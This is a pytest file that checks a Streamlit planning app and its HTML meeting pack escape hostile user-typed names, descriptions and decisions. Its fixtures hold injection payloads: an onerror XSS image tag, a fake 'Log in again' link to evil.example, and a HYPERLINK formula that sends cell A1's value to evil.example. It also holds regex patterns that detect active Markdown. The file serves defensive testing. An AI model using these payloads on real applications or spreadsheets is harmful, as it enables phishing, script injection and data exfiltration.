"""Hostile text stays text: names, descriptions, reasons and decisions people type reach every
page and the meeting pack as what was typed, never as a link, an image, an HTML tag or a
Streamlit directive (issue 24, item 1)."""

from __future__ import annotations

import datetime as dt
import html
import re
from pathlib import Path

import duckdb
import pytest
from streamlit.testing.v1 import AppTest

from sop_core.data import db
from sop_core.demand.consensus import Override, add_override
from sop_core.demand.plan_base import load_plan_base
from sop_core.forecast.runs import latest_run
from sop_core.meeting.decisions import add_item
from sop_core.scenario.model import Lever, Scenario
from sop_core.scenario.store import create_scenario
from sop_ui.formatting import plain

ROOT = Path(__file__).resolve().parent.parent

LINK = "![t](http://a.example/t.png)[Log in again](http://evil.example)"
TAG = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
RTL_EMOJI = "מבצע קיץ 🎉 :red[alarm] :material/home:"
LONG = "[Read more](http://evil.example) " + "very long decision " * 24
AUTHOR = "`Ana` **boss** <b>x</b>"

# Markdown that would render as something else than text: a link or an image (inline or
# autolinked), an HTML tag, a Streamlit directive or icon. ``(?<!\\)``: not backslash-escaped.
ACTIVE = [
    re.compile(r"(?<!\\)\]\((?!\))"),  # [text](url), ![alt](url)
    re.compile(r"(?<!\\)<[a-z/!]", re.IGNORECASE),  # <img ...>, </b>, <!-- -->
    re.compile(r"(?<![\\/])https?(?<!\\):(?<!\\)//"),  # a bare URL GitHub Markdown links
    re.compile(r"(?<!\\):(?:red|material)"),  # :red[...], :material/icon:
]


@pytest.fixture()
def hostile_app(app_env: Path) -> Path:
    """The app's private sample database with hostile text in every kind of user text."""
    con = duckdb.connect(str(app_env))
    try:
        # The product master as an import would leave it (a renamed family, brand and SKU).
        family, sku = con.execute(
            "SELECT family, min(sku) FROM products GROUP BY 1 ORDER BY 1 LIMIT 1"
        ).fetchone()
        con.execute("UPDATE products SET family = ? WHERE family = ?", [TAG, family])
        con.execute("UPDATE products SET brand = ? WHERE sku = ?", [FORMULA, sku])
        con.execute("UPDATE products SET name = ? WHERE sku = ?", [RTL_EMOJI, sku])
    finally:
        con.close()
    with db.connect(app_env) as con:
        run = latest_run(con)
        base = load_plan_base(con, run)
        cycle = con.execute(
            "SELECT history_end FROM forecast_runs WHERE run_id = ?", [run]
        ).fetchone()[0]
    first, last = base.weeks[2].astype(dt.date), base.weeks[5].astype(dt.date)
    add_override(
        app_env,
        base,
        base.statistical_by_channel,
        Override("family", TAG, first, last, "units", 100, f"{TAG} {LINK} {RTL_EMOJI}", AUTHOR),
        run_id=run,
        cycle=cycle,
    )
    lever = Lever("promotion", "family", TAG, first, last, discount=0.2)
    create_scenario(app_env, Scenario(LINK, [lever]), AUTHOR, run)
    add_item(app_env, "decision", LONG, AUTHOR, AUTHOR, scenario=LINK)
    add_item(app_env, "decision", f"{TAG} {FORMULA}", RTL_EMOJI, AUTHOR)
    return app_env


def markdown_texts(at: AppTest) -> list[str]:
    """Every string the page hands to Streamlit's Markdown renderer: bodies of text and alert
    elements, labels and help of widgets and tiles, options of radios and segmented controls,
    cells of ``st.table``. (``st.dataframe`` cells and selectbox options are plain text.)"""
    found: list[str] = []
    kinds = ["markdown", "caption", "title", "header", "subheader", "info", "warning", "error"]
    kinds += ["success", "toast"]
    for kind in kinds:
        found += [element.value for element in at.get(kind)]
    for element in at.get("metric"):
        found += [element.label, element.proto.help, element.proto.body]
    for kind in ["button", "download_button", "expander", "tab", "radio", "button_group"]:
        for element in at.get(kind):
            found += [getattr(element.proto, "label", ""), getattr(element.proto, "help", "")]
            for option in getattr(element.proto, "options", []):
                found.append(option if isinstance(option, str) else getattr(option, "content", ""))
    for kind in ["selectbox", "multiselect", "text_input", "number_input", "select_slider"]:
        for element in at.get(kind):
            found += [element.proto.label, element.proto.help]
    for table in at.get("table"):
        frame = table.value
        found += [str(v) for v in frame.to_numpy().ravel() if isinstance(v, str)]
    return [text for text in found if text]


def run_page(page: str, scenario: str) -> AppTest:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90).run()
    at.sidebar.selectbox(key="scenario").set_value(scenario).run()
    at.switch_page(page).run()
    assert not at.exception, at.exception
    return at


def shown_pages(scenario: str) -> list[tuple[str, AppTest]]:
    """Every page (and the views that show the hostile family and the open decisions)."""
    shown = []
    for page in ["overview", "demand", "promotions", "supply", "plan", "data", "present"]:
        shown.append((page, run_page(f"pages/{page}.py", scenario)))
    demand = run_page("pages/demand.py", scenario)
    demand.segmented_control(key="demand_level").set_value("family").run()
    demand.selectbox(key="demand_family").set_value(TAG).run()
    shown.append(("demand, the hostile family", demand))
    present = run_page("pages/present.py", scenario)
    present.segmented_control(key="step").set_value(4).run()
    shown.append(("present, decisions", present))
    return shown


@pytest.mark.slow
def test_hostile_names_show_as_text_on_every_page(hostile_app):
    seen: list[str] = []
    for page, at in shown_pages(LINK):
        assert not at.exception, (page, at.exception)
        for text in markdown_texts(at):
            for pattern in ACTIVE:
                assert not pattern.search(text), (page, pattern.pattern, text[:300])
        seen += markdown_texts(at)
    everything = "\n".join(seen)
    # Still shown, as the escaped text (which renders as what was typed).
    # (The override's reason is only in st.dataframe cells: plain text, never Markdown.)
    for hostile in [LINK, TAG, RTL_EMOJI, AUTHOR, f"{TAG} {FORMULA}"]:
        assert plain(hostile) in everything, hostile


def test_plain_escapes_markdown_and_keeps_clean_text():
    assert plain("Fragrance push 2026") == "Fragrance push 2026"
    assert plain(LINK).startswith(r"\!\[t\]\(http\:\/\/a\.example")
    assert plain(TAG) == r"\<img src\=x onerror\=alert\(1\)\>"
    assert plain("a\\b") == r"a\\b"
    assert plain(":red[x] :material/home:") == r"\:red\[x\] \:material\/home\:"
    assert plain("line one\n# two") == r"line one \# two"
    assert plain("שלום 🎉") == "שלום 🎉"
    assert plain("x" * 100, limit=10) == "x" * 9 + "…"
    for hostile in [LINK, TAG, FORMULA, RTL_EMOJI, LONG, AUTHOR]:
        escaped = plain(hostile)
        assert not any(pattern.search(escaped) for pattern in ACTIVE), escaped
        # Unescaping gives back the text: nothing lost, nothing added.
        assert re.sub(r"\\(.)", r"\1", escaped) == hostile.replace("\n", " ")


@pytest.mark.slow
def test_the_meeting_pack_shows_hostile_names_as_html_text(hostile_app, tmp_path):
    from sop_core.meeting.pack import build_pack

    files = build_pack(hostile_app, tmp_path, LINK, pdf=False)
    report = files["html"].read_text(encoding="utf-8")
    assert TAG not in report and "<b>x</b>" not in report
    for hostile in [LONG.strip(), AUTHOR, f"{TAG} {FORMULA}", RTL_EMOJI]:
        assert html.escape(hostile) in report or html.escape(hostile, quote=False) in report, (
            hostile
        )
